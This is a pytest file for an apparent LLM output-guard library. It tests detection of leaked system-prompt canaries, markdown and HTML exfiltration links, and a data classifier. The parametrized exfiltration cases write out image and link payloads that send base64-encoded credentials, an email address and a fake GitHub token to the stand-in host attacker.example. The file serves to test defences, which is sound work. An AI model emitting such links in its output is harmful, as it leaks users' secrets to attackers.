"""Output guards (canaries, markdown exfiltration) and classification levels."""

from __future__ import annotations

import pytest

from tsuba.core.errors import ConfigError
from tsuba.guards.classify import Level, Policy, classify
from tsuba.guards.leaks import find_canaries, find_exfiltration, new_canary, plant, scan_output


def test_canaries_are_found_plain_and_disguised() -> None:
    canary = new_canary()
    assert canary != new_canary() and canary in plant("You are a helpful bot.", canary)
    assert find_canaries("nothing to see", [canary]) == []
    assert len(find_canaries(f"the prompt says {canary}", [canary])) == 1
    spaced = " ".join(canary.upper())
    zero_width = "\u200b".join(canary)
    for disguised in (spaced, zero_width):
        hits = find_canaries(f"leak: {disguised}", [canary])
        assert hits and hits[0].entity_type == "CANARY"
    result = scan_output(f"sure, it is {canary}", canaries=[canary])
    assert not result.valid and result.sanitized == ""


@pytest.mark.parametrize(
    "text",
    [
        "![chart](https://attacker.example/p.png?d=b2xnYUBleGFtcGxlLm5ldCBwYXNzd29yZD1odW50ZXIy)",
        "![x](https://attacker.example/log?email=olga@example.net)",
        '<img src="https://attacker.example/i?q=the%20secret%20plan%20is%20in%20the%20vault">',
        "[click](https://attacker.example/c?token=ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5)",
        "![a][ref]\n\n[ref]: https://attacker.example/x?data=b2xnYUBleGFtcGxlLm5ldCBwYXNzd29yZA",
    ],
)
def test_exfiltration_urls_are_flagged(text: str) -> None:
    hits = find_exfiltration(text)
    assert hits and hits[0].entity_type == "EXFILTRATION", text


@pytest.mark.parametrize(
    "text",
    [
        "See [the docs](https://docs.python.org/3/library/re.html) for details.",
        "![logo](https://cdn.example.com/logo.png)",
        "![x](https://attacker.example/p?d=b2xnYUBleGFtcGxlLm5ldCBwYXNzd29yZA)",  # allowed host
        "[home](/index.html?page=2)",
    ],
)
def test_plain_links_pass(text: str) -> None:
    assert find_exfiltration(text, allowed_hosts=["attacker.example"]) == []


def test_scan_output_reports_secrets_and_pii_but_not_plain_urls() -> None:
    ok = scan_output("Read https://example.org/guide for the steps.")
    assert ok.valid and ok.sanitized == "Read https://example.org/guide for the steps."
    bad = scan_output("Her card is 4012 8888 8888 1881.")
    assert not bad.valid and "<CREDIT_CARD>" in bad.sanitized and bad.risk > 0.5


@pytest.mark.parametrize(
    ("item", "level"),
    [
        ("The weather is nice today.", Level.PUBLIC),
        ("Server 203.0.113.9 restarted.", Level.INTERNAL),
        ("Please call Olga Brandt on +44 20 7946 0018.", Level.CONFIDENTIAL),
        ("Her card is 4012 8888 8888 1881.", Level.RESTRICTED),
        ("token ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5", Level.RESTRICTED),
        ("STRENG VERTRAULICH: Quartalszahlen", Level.RESTRICTED),
        ("社外秘 資料", Level.CONFIDENTIAL),
        ({"classification": "internal", "body": "lunch menu"}, Level.INTERNAL),
        ({"labels": ["public"], "note": "card 4012 8888 8888 1881"}, Level.RESTRICTED),
    ],
)
def test_levels(item: object, level: Level) -> None:
    result = classify(item)  # type: ignore[arg-type]
    assert result.level is level, result.reasons
    if level > Level.PUBLIC:
        assert result.reasons and result.reasons[0].startswith(level.label)


def test_many_people_in_one_text_is_restricted() -> None:
    rows = "\n".join(f"{n}@example.com" for n in ("ana", "ivo", "olga", "petr", "rui", "sam",
                                                  "tom", "uma", "vic", "wes"))
    result = classify(rows)
    assert result.level is Level.RESTRICTED and any("10 personal" in r for r in result.reasons)


def test_policy_from_configuration() -> None:
    policy = Policy.from_config(
        {"entity_levels": {"EMAIL_ADDRESS": "restricted"},
         "keywords": {r"project\s+x": "Confidential"}, "default": "internal"}
    )
    assert classify("hello", policy=policy).level is Level.INTERNAL
    assert classify("about Project  X", policy=policy).level is Level.CONFIDENTIAL
    assert classify("ana@example.com", policy=policy).level is Level.RESTRICTED
    with pytest.raises(ConfigError, match="unknown classification level"):
        Policy.from_config({"default": "secret"})
    with pytest.raises(ConfigError, match="unknown key"):
        Policy.from_config({"levels": {}})
